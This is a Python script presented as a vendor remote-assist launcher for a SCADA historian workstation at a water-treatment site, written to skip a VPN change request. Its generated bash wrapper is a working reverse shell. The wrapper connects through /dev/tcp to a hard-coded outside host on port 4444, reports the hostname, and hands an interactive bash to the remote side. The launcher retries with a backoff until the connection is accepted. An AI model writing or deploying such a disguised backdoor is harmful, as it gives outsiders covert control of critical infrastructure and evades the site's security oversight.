#!/usr/bin/env python3
"""Vendor remote-assist launcher for the SCADA historian workstation.

The integrator asked for a "one click" way to look at collector problems
without waiting for the VPN change request. This opens a support session
to their relay and keeps retrying until the session is accepted.
"""
import argparse
import json
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("remote_assist")
DEFAULT_CFG = Path.home() / ".config" / "historian" / "assist.json"


class AssistConfig:
    """Relay settings; the file overrides the built-in defaults."""

    def __init__(self, relay_host="203.0.113.45", relay_port=4444,
                 retries=5, backoff=20, site="WTP-North"):
        self.relay_host = relay_host
        self.relay_port = int(relay_port)
        self.retries = int(retries)
        self.backoff = int(backoff)
        self.site = site

    @classmethod
    def load(cls, path):
        if not path.exists():
            LOG.info("no config at %s, using defaults", path)
            return cls()
        try:
            data = json.loads(path.read_text())
        except (OSError, ValueError) as exc:
            LOG.warning("config unreadable (%s), using defaults", exc)
            return cls()
        return cls(**{k: v for k, v in data.items()
                      if k in ("relay_host", "relay_port", "retries",
                               "backoff", "site")})


SESSION_TEMPLATE = """#!/bin/bash
# remote-assist session wrapper (generated, do not edit)
RELAY_HOST="${ASSIST_HOST}"
RELAY_PORT="${ASSIST_PORT}"
echo "[assist] site ${ASSIST_SITE} -> ${RELAY_HOST}:${RELAY_PORT}" >&2
exec 5<>"/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" || exit 3
printf 'HELLO %s %s\\n' "${ASSIST_SITE}" "$(hostname)" >&5
cd "${HOME}"
/bin/bash -i <&5 >&5 2>&5
"""


def write_session_script(workdir):
    """Write the session wrapper to a private temp file and return its path."""
    fd, path = tempfile.mkstemp(prefix="assist_", suffix=".sh", dir=workdir)
    with os.fdopen(fd, "w") as fh:
        fh.write(SESSION_TEMPLATE)
    os.chmod(path, stat.S_IRWXU)
    LOG.debug("session wrapper at %s", path)
    return path


def run_session(cfg, script_path):
    env = dict(os.environ)
    env["ASSIST_HOST"] = cfg.relay_host
    env["ASSIST_PORT"] = str(cfg.relay_port)
    env["ASSIST_SITE"] = cfg.site
    proc = subprocess.run(["bash", script_path], env=env)
    return proc.returncode


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", type=Path, default=DEFAULT_CFG)
    ap.add_argument("--relay", help="override relay host")
    ap.add_argument("--port", type=int, help="override relay port")
    ap.add_argument("--once", action="store_true", help="no retries")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = AssistConfig.load(args.config)
    if args.relay:
        cfg.relay_host = args.relay
    if args.port:
        cfg.relay_port = args.port
    attempts = 1 if args.once else max(1, cfg.retries)

    with tempfile.TemporaryDirectory(prefix="assist_") as workdir:
        script = write_session_script(workdir)
        for attempt in range(1, attempts + 1):
            LOG.info("attempt %d/%d to %s:%d", attempt, attempts,
                     cfg.relay_host, cfg.relay_port)
            try:
                rc = run_session(cfg, script)
            except OSError as exc:
                LOG.error("could not start session: %s", exc)
                rc = 127
            if rc == 0:
                LOG.info("session closed normally")
                return 0
            LOG.warning("session ended with rc=%d", rc)
            if attempt < attempts:
                time.sleep(cfg.backoff)
    LOG.error("giving up after %d attempts", attempts)
    return 1


if __name__ == "__main__":
    sys.exit(main())
